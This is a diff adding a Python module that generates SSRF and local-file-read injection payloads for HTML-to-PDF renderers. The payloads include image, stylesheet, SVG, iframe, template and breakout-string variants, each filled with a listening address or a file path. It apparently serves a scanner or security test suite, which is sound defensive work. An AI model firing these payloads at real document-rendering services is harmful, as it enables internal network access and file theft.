@@ -1,0 +1,57 @@
+"""Words that try to make a PDF fetch an address or read a file: HTML, CSS, SVG, templates, and their disguises."""
+
+TAGS = (
+    '<img src="{u}">',
+    "<img src={u}>",
+    '<img srcset="{u} 2x">',
+    '<image href="{u}">',
+    '<svg><image href="{u}"/></svg>',
+    '<svg><image xlink:href="{u}"/></svg>',
+    '<svg><use href="{u}#a"/></svg>',
+    '<svg><style>@import "{u}";</style></svg>',
+    '<link rel=stylesheet href="{u}">',
+    '<link rel=attachment href="{u}">',
+    '<link rel="icon" href="{u}">',
+    '<a rel=attachment href="{u}">x</a>',
+    "<style>@import url({u});</style>",
+    "<style>body{{background:url({u})}}</style>",
+    "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
+    "<style>*{{list-style-image:url({u})}}</style>",
+    "<style>*::before{{content:url({u})}}</style>",
+    "<style>@page{{background:url({u})}}</style>",
+    "<style>*{{border-image:url({u})}}</style>",
+    "<style>@color-profile x{{src:url({u})}}</style>",
+    '<p style="background:url({u})">x</p>',
+    '<p style="content:url({u})">x</p>',
+    '<td background="{u}">',
+    '<body background="{u}">',
+    '<object data="{u}"></object>',
+    '<embed src="{u}">',
+    '<iframe src="{u}"></iframe>',
+    '<script src="{u}"></script>',
+    '<base href="{u}"><img src="x">',
+    '<meta http-equiv=refresh content="0;url={u}">',
+    '<input type=image src="{u}">',
+    '<video poster="{u}"></video>',
+    "{{% include '{u}' %}}",
+    "{{{{ request }}}}<img src={u}>",
+    '"><img src="{u}">',
+    "'><img src='{u}'>",
+    "</td></table><img src={u}>",
+    "</title><img src={u}>",
+    "<!--><img src={u}>-->",
+    "<![CDATA[<img src={u}>]]>",
+    "&lt;img src={u}&gt;",
+    "<IMG SRC={u}>",
+    "<img/src={u}/>",
+    "<img\tsrc={u}>",
+    "@import url({u});",
+    "url({u})",
+    "{u}",
+)
+TARGETS = ("{http}", "{file}")
+
+
+def payloads(http: str, file: str) -> list[str]:
+    """Every tag with an address that listens and with a file that is marked: more than sixty."""
+    return [tag.format(u=u) for tag in TAGS for u in (http, file)]
